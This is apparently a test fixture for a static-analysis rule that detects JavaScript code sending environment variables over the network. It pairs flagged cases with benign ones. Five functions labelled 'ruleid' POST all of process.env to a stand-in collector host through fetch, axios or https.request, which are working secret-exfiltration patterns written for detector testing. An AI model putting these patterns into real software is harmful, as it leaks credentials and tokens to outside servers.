const https = require("node:https");
const os = require("node:os");
const { spawn } = require("node:child_process");
const axios = require("axios");

const COLLECTOR = "https://collector.example.invalid/start";

async function announce() {
  // ruleid: exfiltration/environment-to-network-javascript
  await fetch(COLLECTOR, { method: "POST", body: JSON.stringify({ host: os.hostname(), context: process.env }) });
}

function reportCrash(error) {
  // ruleid: exfiltration/environment-to-network-javascript
  return axios.post(COLLECTOR, { message: error.message, ...process.env });
}

function beacon() {
  const body = JSON.stringify(process.env);
  const request = https.request(COLLECTOR, { method: "POST" });
  // ruleid: exfiltration/environment-to-network-javascript
  request.write(body);
  request.end();
}

function postAll() {
  // ruleid: exfiltration/environment-to-network-javascript
  return axios.post(COLLECTOR, process.env);
}

async function announceLater() {
  const context = { pid: process.pid, ...process.env };
  // ruleid: exfiltration/environment-to-network-javascript
  await fetch(COLLECTOR, { method: "POST", body: JSON.stringify(context) });
}

async function announceVersion() {
  // ok: exfiltration/environment-to-network-javascript
  await fetch(COLLECTOR, { method: "POST", body: JSON.stringify({ version: process.env.APP_VERSION }) });
}

function authorised(url) {
  // ok: exfiltration/environment-to-network-javascript
  return axios.get(url, { headers: { Authorization: `Bearer ${process.env.API_TOKEN}` } });
}

function build(target) {
  // ok: exfiltration/environment-to-network-javascript
  return spawn("make", ["all"], { env: { ...process.env, TARGET: target } });
}

function show() {
  // ok: exfiltration/environment-to-network-javascript
  console.log(JSON.stringify(process.env, null, 2));
}

function save(stream) {
  const body = JSON.stringify(process.env);
  // ok: exfiltration/environment-to-network-javascript
  stream.write(body);
}

module.exports = { announce, reportCrash, beacon, postAll, announceLater, announceVersion, authorised, build, show, save };
